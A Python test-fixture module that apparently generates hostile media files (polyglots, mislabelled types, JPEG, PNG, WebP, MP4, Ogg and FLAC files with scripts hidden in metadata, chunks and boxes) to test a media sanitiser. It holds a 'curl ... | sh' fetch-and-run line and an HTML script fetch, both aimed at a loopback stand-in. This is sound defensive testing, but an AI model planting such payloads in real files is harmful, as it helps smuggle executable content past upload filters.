"""Files, such as polyglots, that a malicious sender could send in place of copies."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from fractions import Fraction
from functools import cache
from random import Random

import av
import numpy as np
from PIL import Image

from entrenous.base.audio_video import ClipFormat, ColourSpace, Sound, SoundEncoding, SoundFormat
from entrenous.media.clip_writer import ClipSoundTrack, ClipWriter
from entrenous.media.picture_reader import read_picture
from entrenous.media.picture_writer import write_picture
from entrenous.media.sound_writer import write_sound
from tests.village.world import photo

LabelledFiles = list[tuple[str, str, bytes]]  # description, media type, bytes

SHELL_SCRIPT = b"\n#!/bin/sh\ncurl http://127.0.0.1:9/x | sh\n"
HTML_SCRIPT = b"<html><script>fetch('http://127.0.0.1:9/')</script></html>"
SOUND_MEDIA_TYPES = {
    SoundFormat.OPUS: "audio/ogg",
    SoundFormat.AAC: "audio/mp4",
    SoundFormat.MP3: "audio/mpeg",
    SoundFormat.AMR: "audio/amr",
    SoundFormat.WAV: "audio/wav",
    SoundFormat.FLAC: "audio/flac",
}


def zip_archive() -> bytes:
    """Return a ZIP archive of a script. ZIP readers find such an archive even at the end of another
    file.
    """
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as packed:
        packed.writestr("run.sh", SHELL_SCRIPT)
    return file.getvalue()


@cache
def valid_copies() -> dict[str, bytes]:
    """Return one valid copy for each media type, written by our own writers."""
    picture = Image.open(io.BytesIO(photo(width_px=100)))
    copies = {
        f"image/{kind.lower()}": write_picture(read_picture(_encode_picture(picture, kind)))
        for kind in ("JPEG", "PNG", "WEBP")
    }
    copies["video/mp4"] = _make_clip()
    wave = np.sin(np.arange(24_000) * 0.17)[:, None].astype(np.float32) * 0.4
    for kind, media_type in SOUND_MEDIA_TYPES.items():
        sound = Sound(16_000, 1, wave.tobytes(), SoundEncoding(kind, 32_000))
        copies[media_type] = write_sound(sound, wave)
    return copies


def make_hostile_files(count_min: int) -> LabelledFiles:
    """Return all handcrafted files; if these are fewer than ``count_min``, also mutated copies."""
    files = [
        *_polyglots(),
        *_mislabelled_files(),
        *_extended_or_truncated_copies(),
        *_changed_jpegs(),
        *_changed_pngs(),
        *_changed_webps(),
        *_changed_mp4s(),
    ]
    files += [*_changed_oggs(), *_changed_sounds()]
    rng = Random(24)
    while len(files) < count_min:
        files.append(_mutate_copy(rng))
    return files


def _encode_picture(picture: Image.Image, format_name: str) -> bytes:
    file = io.BytesIO()
    picture.save(file, format_name)
    return file.getvalue()


def _make_clip() -> bytes:
    rng = np.random.default_rng(3)
    wave = np.sin(np.arange(32_000) * 0.1)[:, None].astype(np.float32) * 0.3
    shown = ClipFormat(64, 48, Fraction(25), 1.0, ColourSpace(1, 1, 1), Fraction(1))
    writer = ClipWriter(shown, 19.0, ClipSoundTrack(wave, 16_000))
    grey = np.full(64 * 48 // 2, 128, np.uint8)
    for place in range(25):
        writer.add(rng.integers(0, 255, (48, 64), dtype=np.uint8), grey, place / 25)
    return writer.finish()


def _polyglots() -> Iterator[tuple[str, str, bytes]]:
    """Yield files that begin like a picture, clip or sound and continue with something else."""
    for media_type, data in valid_copies().items():
        for length in (4, 12, 24):
            for what, body in (
                ("shell", SHELL_SCRIPT),
                ("html", HTML_SCRIPT),
                ("zip", zip_archive()),
            ):
                yield f"{media_type} start {length} {what}", media_type, data[:length] + body
    yield "jpeg start and scripts", "image/jpeg", b"\xff\xd8\xff\xe0" + SHELL_SCRIPT + HTML_SCRIPT


def _mislabelled_files() -> Iterator[tuple[str, str, bytes]]:
    """Yield valid copies with a wrong media type, and pictures in formats that no copy has."""
    for media_type, data in valid_copies().items():
        for other in valid_copies():
            if other != media_type:
                yield f"{media_type} as {other}", other, data
        for other in ("text/html", "image/svg+xml", "application/x-sh", "image/gif"):
            yield f"{media_type} as {other}", other, data
    for what, kind in (("GIF", "GIF"), ("BMP", "BMP"), ("TIFF", "TIFF")):
        data = _encode_picture(Image.new("RGB", (9, 9)), kind)
        yield what, "image/jpeg", data
        yield what, f"image/{kind.lower()}", data


def _extended_or_truncated_copies() -> Iterator[tuple[str, str, bytes]]:
    """Yield copies with data appended or prepended, and copies without their end."""
    for media_type, data in valid_copies().items():
        for what, tail in (
            *(
                ("zip", zip_archive()),
                ("html", HTML_SCRIPT),
                ("shell", SHELL_SCRIPT),
                ("a zero", b"\0"),
            ),
            *(
                ("a line", b"\n"),
                ("zeros", bytes(4096)),
                ("itself", data),
                ("ID3v1", b"TAG" + bytes(125)),
            ),
        ):
            yield f"{media_type} + {what}", media_type, data + tail
            yield f"{what} + {media_type}", media_type, tail + data
        for cut in (1, 2, 3, 8, 100, len(data) // 2):
            yield f"{media_type} less {cut}", media_type, data[:-cut]


def _changed_jpegs() -> Iterator[tuple[str, str, bytes]]:
    data = valid_copies()["image/jpeg"]
    places, at = [2], 2
    while data[at + 1] != 0xDA:
        at += 2 + int.from_bytes(data[at + 2 : at + 4], "big")
        places.append(at)
    for place in places:
        for marker in (*range(0xE0, 0xF0), 0xFE, 0xDD, 0xDC):
            body = b"\0\x04\0\x08" if marker == 0xDD else b"\0\x0a<script>"
            more = bytes((0xFF, marker)) + body
            yield f"jpeg {marker:x} at {place}", "image/jpeg", data[:place] + more + data[place:]
    end = len(data) - 2
    for what, more in (
        ("html", HTML_SCRIPT),
        ("zip", zip_archive().replace(b"\xff", b"\xfe")),
        ("zeros", bytes(64)),
    ):
        yield f"jpeg {what} in its scan's end", "image/jpeg", data[:end] + more + data[end:]
    yield "jpeg with two ends", "image/jpeg", data + b"\xff\xd9"
    yield "jpeg with a restart", "image/jpeg", data[:end] + b"\xff\xd0" + data[end:]
    image = Image.open(io.BytesIO(data))
    for how in (
        {"progressive": True},
        {"optimize": True},
        {"comment": SHELL_SCRIPT},
        {"exif": _exif_with_script()},
    ):
        file = io.BytesIO()
        image.save(file, "JPEG", **how)
        yield f"jpeg {list(how)}", "image/jpeg", file.getvalue()
    file = io.BytesIO()
    image.save(file, "JPEG", icc_profile=b"\0" * 40 + SHELL_SCRIPT + bytes(100))
    yield "jpeg with a profile of its own", "image/jpeg", file.getvalue()


def _exif_with_script() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010E] = SHELL_SCRIPT.decode()
    return exif


def _png_chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def _changed_pngs() -> Iterator[tuple[str, str, bytes]]:
    data = valid_copies()["image/png"]
    after_head, end = 33, len(data) - 12
    names = (
        b"tEXt",
        b"zTXt",
        b"iTXt",
        b"eXIf",
        b"tIME",
        b"gAMA",
        b"pHYs",
        b"acTL",
        b"teSt",
        b"PLTE",
    )
    for name in names:
        for place in (after_head, end):
            more = _png_chunk(name, b"Comment\0" + SHELL_SCRIPT)
            yield f"png {name!r} at {place}", "image/png", data[:place] + more + data[place:]
    raw = zlib.decompress(data[after_head + 8 : end - 4])
    for what, packed in (
        ("more rows", zlib.compress(raw + HTML_SCRIPT)),
        ("less rows", zlib.compress(raw[:-1])),
        ("bytes behind", zlib.compress(raw) + SHELL_SCRIPT),
    ):
        whole = data[:after_head] + _png_chunk(b"IDAT", packed) + data[end:]
        yield f"png {what}", "image/png", whole
        tail = data[:end] + _png_chunk(b"IDAT", packed) + data[end:]
        yield f"png twice, {what}", "image/png", tail
    image = Image.open(io.BytesIO(data))
    for mode in ("P", "1", "I;16"):
        plain = image.convert("L").convert(mode) if mode == "I;16" else image.convert(mode)
        yield f"png {mode}", "image/png", _encode_picture(plain, "PNG")
    yield (
        "png profile",
        "image/png",
        data[:33] + _png_chunk(b"iCCP", b"x\0\0" + zlib.compress(SHELL_SCRIPT)) + data[33:],
    )


def _riff_chunk(name: bytes, body: bytes) -> bytes:
    return name + struct.pack("<I", len(body)) + body + bytes(len(body) & 1)


def _changed_webps() -> Iterator[tuple[str, str, bytes]]:
    data = valid_copies()["image/webp"]
    body = data[12:]
    coded = body[8 : 8 + int.from_bytes(body[4:8], "little")]
    head = _riff_chunk(
        b"VP8X", b"\x0c\0\0\0" + struct.pack("<I", 99)[:3] + struct.pack("<I", 99)[:3]
    )
    for what, chunks in {
        "exif": head + body + _riff_chunk(b"EXIF", SHELL_SCRIPT),
        "xmp": head + body + _riff_chunk(b"XMP ", HTML_SCRIPT),
        "unknown": body + _riff_chunk(b"TEST", SHELL_SCRIPT),
        "unknown first": _riff_chunk(b"TEST", SHELL_SCRIPT) + body,
        "two pictures": body + body,
        "more coded": _riff_chunk(b"VP8 ", coded + SHELL_SCRIPT),
        "zip coded": _riff_chunk(b"VP8 ", coded + zip_archive()),
        "profile": _riff_chunk(b"ICCP", SHELL_SCRIPT) + body,
        "anim": _riff_chunk(b"ANIM", bytes(6)) + body,
    }.items():
        yield f"webp {what}", "image/webp", _riff_chunk(b"RIFF", b"WEBP" + chunks)
    frame = _vp8_frame_with_payload(HTML_SCRIPT)
    chunks = _riff_chunk(b"VP8 ", frame)
    yield "webp, html in a partition", "image/webp", _riff_chunk(b"RIFF", b"WEBP" + chunks)


def _vp8_frame_with_payload(payload: bytes) -> bytes:
    """Return a VP8 frame of 8 token partitions, the first of which ends with the payload."""
    encoder = av.CodecContext.create("libvpx", "w")
    encoder.width, encoder.height, encoder.pix_fmt = 256, 256, "yuv420p"
    encoder.time_base, encoder.options = Fraction(1, 25), {"slices": "8", "crf": "10"}
    noise = np.random.default_rng(4).integers(0, 255, (256, 256, 3), dtype=np.uint8)
    frame = av.VideoFrame.from_ndarray(noise, "rgb24").reformat(format="yuv420p")
    frame.pts = 0
    (coded,) = (bytes(packet) for packet in (*encoder.encode(frame), *encoder.encode(None)))
    sizes_at = 10 + (int.from_bytes(coded[:3], "little") >> 5)  # RFC 6386, 9.1 and 9.5
    partitions_at = sizes_at + 3 * 7
    size = int.from_bytes(coded[sizes_at : sizes_at + 3], "little")
    end = partitions_at + size
    longer = (size + len(payload)).to_bytes(3, "little")
    return coded[:sizes_at] + longer + coded[sizes_at + 3 : end] + payload + coded[end:]


def _mp4_box(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", 8 + len(body)) + name + body


def _changed_mp4s() -> Iterator[tuple[str, str, bytes]]:
    for media_type in ("video/mp4", "audio/mp4"):
        data = valid_copies()[media_type]
        moov = data.index(b"moov") - 4
        for name in (
            b"free",
            b"skip",
            b"uuid",
            b"udta",
            b"meta",
            b"wide",
            b"test",
            b"mdat",
            b"pdin",
        ):
            more = _mp4_box(name, HTML_SCRIPT + SHELL_SCRIPT)
            yield f"{media_type} {name!r} last", media_type, data + more
            yield f"{media_type} {name!r} before moov", media_type, data[:moov] + more + data[moov:]
            for inside in (b"moov", b"trak", b"mdia", b"minf", b"stbl", b"stsd"):
                yield (
                    f"{media_type} {name!r} in {inside!r}",
                    media_type,
                    _insert_box(data, inside, more),
                )
        at = data.index(b"mdat") - 4
        size = int.from_bytes(data[at : at + 4], "big") + len(HTML_SCRIPT)
        longer = (
            data[:at] + struct.pack(">I", size) + data[at + 4 : moov] + HTML_SCRIPT + data[moov:]
        )
        yield f"{media_type} more media", media_type, longer
        yield f"{media_type} a brand", media_type, data[:8] + b"html" + data[12:]
        name_at = data.index(b"hdlr") + 12
        yield f"{media_type} handler", media_type, data[:name_at] + b"\x01" + data[name_at + 1 :]
    data = valid_copies()["video/mp4"]
    first = data.index(b"mdat") + 4
    sei = data[: first + 4] + b"\x06" + data[first + 5 :]
    yield "mp4 with SEI", "video/mp4", sei
    for name in (b"stts", b"ctts", b"stss"):
        yield f"mp4 {name!r} longer", "video/mp4", _lengthen_table(data, name)
    m4a = valid_copies()["audio/mp4"]
    yield "m4a sbgp longer", "audio/mp4", _lengthen_table(m4a, b"sbgp")
    at = data.index(b"avcC") - 4
    for set_name, first in (("sequence", b"\x67"), ("picture", b"\x68")):
        begin = data.index(first, at + 12)
        size = int.from_bytes(data[begin - 2 : begin], "big")
        sized = struct.pack(">H", size + len(HTML_SCRIPT)) + data[begin : begin + size]
        longer_set = data[: begin - 2] + sized + HTML_SCRIPT + data[begin + size :]
        path = (*_BOXES_OF_TABLES, b"stsd", b"avc1", b"avcC")
        whole = _enlarge_boxes(longer_set, path, len(HTML_SCRIPT))
        yield f"mp4 {set_name} set", "video/mp4", whole
    at = data.index(b"avc1") + 4 + 50 - 8
    yield "mp4 compressor", "video/mp4", data[:at] + b"\x08<script>" + data[at + 9 :]


_BOXES_OF_TABLES = (b"moov", b"trak", b"mdia", b"minf", b"stbl")


def _lengthen_table(data: bytes, name: bytes) -> bytes:
    """Append HTML to a table of samples, as entries that its count includes. In a table of runs,
    these are runs of no samples.
    """
    entry = 4 if name == b"stss" else 8
    parts = [HTML_SCRIPT[at : at + 4].ljust(4) for at in range(0, len(HTML_SCRIPT), 4)]
    more = bytes(entry - 4) + bytes(entry - 4).join(parts)
    at = data.index(name, data.index(b"moov")) - 4
    end = at + int.from_bytes(data[at : at + 4], "big")
    count_at = at + (16 if name == b"sbgp" else 12)
    count = int.from_bytes(data[count_at : count_at + 4], "big") + len(more) // entry
    longer = data[:count_at] + struct.pack(">I", count) + data[count_at + 4 : end] + more
    return _enlarge_boxes(longer + data[end:], (*_BOXES_OF_TABLES, name), len(more))


def _enlarge_boxes(data: bytes, names: tuple[bytes, ...], more_bytes: int) -> bytes:
    """Add ``more_bytes`` to the size of the first box of each name."""
    changed, at = bytearray(data), data.index(b"moov") - 4
    for name in names:
        at = data.index(name, at) - 4
        size = int.from_bytes(data[at : at + 4], "big") + more_bytes
        changed[at : at + 4] = struct.pack(">I", size)
    return bytes(changed)


def _insert_box(data: bytes, inside: bytes, more: bytes) -> bytes:
    """Append ``more`` to the content of the first box whose name is ``inside``.

    Adjust the sizes of this box and of all boxes around the box.
    """
    changed = bytearray(data)
    path = {b"moov": 1, b"trak": 2, b"mdia": 3, b"minf": 4, b"stbl": 5, b"stsd": 6}
    end = 0
    for name, _ in sorted(path.items(), key=lambda one: one[1])[: path[inside]]:
        at = data.index(name, data.index(b"moov")) - 4
        size = int.from_bytes(data[at : at + 4], "big")
        changed[at : at + 4] = struct.pack(">I", size + len(more))
        end = at + size
    return bytes(changed[:end]) + more + bytes(changed[end:])


def _ogg_page(flags: int, serial: bytes, number: int, body: bytes) -> bytes:
    lacing = bytes([255] * (len(body) // 255) + [len(body) % 255])
    head = b"OggS\0" + bytes([flags]) + bytes(8) + serial + struct.pack("<I", number)
    rest = bytes([len(lacing)]) + lacing + body
    return head + struct.pack("<I", _ogg_checksum(head + bytes(4) + rest)) + rest


def _ogg_checksum(page: bytes) -> int:
    """Return the CRC-32 of an Ogg page (RFC 3533, section 6).

    The bits are not reflected. The initial value and the final XOR are 0.
    """
    crc = 0
    for byte in page:
        crc ^= byte << 24
        for _ in range(8):
            crc = (crc << 1 ^ (0x04C11DB7 if crc >> 31 else 0)) & 0xFFFFFFFF
    return crc


def _changed_oggs() -> Iterator[tuple[str, str, bytes]]:
    data = valid_copies()["audio/ogg"]
    second = data.index(b"OggS", 4)
    third = data.index(b"OggS", second + 4)
    serial, other = data[14:18], b"\x07\0\0\0"
    script = _ogg_page(2, other, 0, b"\x80theora" + HTML_SCRIPT)
    yield "ogg, a stream more", "audio/ogg", script + data
    yield "ogg, a stream within", "audio/ogg", data[:second] + script + data[second:]
    yield "ogg, a stream behind", "audio/ogg", data + script
    yield "ogg, a page behind", "audio/ogg", data + _ogg_page(4, serial, 3, HTML_SCRIPT)
    tags = (
        b"OpusTags\x06\0\0\0ffmpeg\x01\0\0\0" + struct.pack("<I", len(SHELL_SCRIPT)) + SHELL_SCRIPT
    )
    yield (
        "ogg, a comment",
        "audio/ogg",
        data[:second] + _ogg_page(0, serial, 1, tags) + data[third:],
    )
    yield "ogg, junk between", "audio/ogg", data[:third] + SHELL_SCRIPT + data[third:]
    padded = b"\xff\x41\xfe" + HTML_SCRIPT  # an Opus packet with the script as padding
    yield "ogg, padding", "audio/ogg", data[:third] + _ogg_page(4, serial, 2, padded)
    for at in range(30, len(data), max(1, len(data) // 40)):
        yield f"ogg, byte {at}", "audio/ogg", data[:at] + bytes([data[at] ^ 1]) + data[at + 1 :]


def _changed_sounds() -> Iterator[tuple[str, str, bytes]]:
    id3 = b"ID3\x04\0\0\0\0\0\x40" + HTML_SCRIPT.ljust(64, b"\0")
    for media_type in SOUND_MEDIA_TYPES.values():
        data = valid_copies()[media_type]
        yield f"ID3 + {media_type}", media_type, id3 + data
        for at in range(50, len(data) - 60, max(60, len(data) // 12)):
            yield f"{media_type}, html at {at}", media_type, data[:at] + HTML_SCRIPT + data[at:]
    wav = valid_copies()["audio/wav"]
    for name in (b"LIST", b"bext", b"JUNK", b"id3 ", b"test"):
        for body in (
            wav[12:] + _riff_chunk(name, SHELL_SCRIPT),
            _riff_chunk(name, SHELL_SCRIPT) + wav[12:],
        ):
            yield f"wav {name!r}", "audio/wav", _riff_chunk(b"RIFF", b"WAVE" + body)
    flac = valid_copies()["audio/flac"]
    for kind in (2, 3, 4, 5, 6, 126):
        block = bytes([kind]) + struct.pack(">I", len(HTML_SCRIPT))[1:] + HTML_SCRIPT
        yield f"flac block {kind}", "audio/flac", flac[:42] + block + flac[42:]
    yield "flac padding", "audio/flac", flac[:70] + HTML_SCRIPT + flac[70 + len(HTML_SCRIPT) :]


def _mutate_copy(rng: Random) -> tuple[str, str, bytes]:
    """Return a copy with a run of bytes inserted, removed or doubled, or with the end cut off.

    Nothing is removed from the middle of a JPEG: a scan has no checksum, so the result may be
    another valid picture. AMR copies are left out: any number of frames is a valid file.
    """
    media_type, data = rng.choice([one for one in valid_copies().items() if one[0] != "audio/amr"])
    at, length = rng.randrange(1, len(data)), rng.randrange(33, 200)
    ways = ("put in", "doubled", "cut off", "taken out")
    way = rng.choice(ways[:3] if media_type == "image/jpeg" else ways)
    mutated = {
        "put in": data[:at] + rng.randbytes(length) + data[at:],
        "taken out": data[:at] + data[at + length :],
        "doubled": data[: at + length] + data[at:],
        "cut off": data[:at],
    }[way]
    return f"{media_type} at {at}, {length} {way}", media_type, mutated
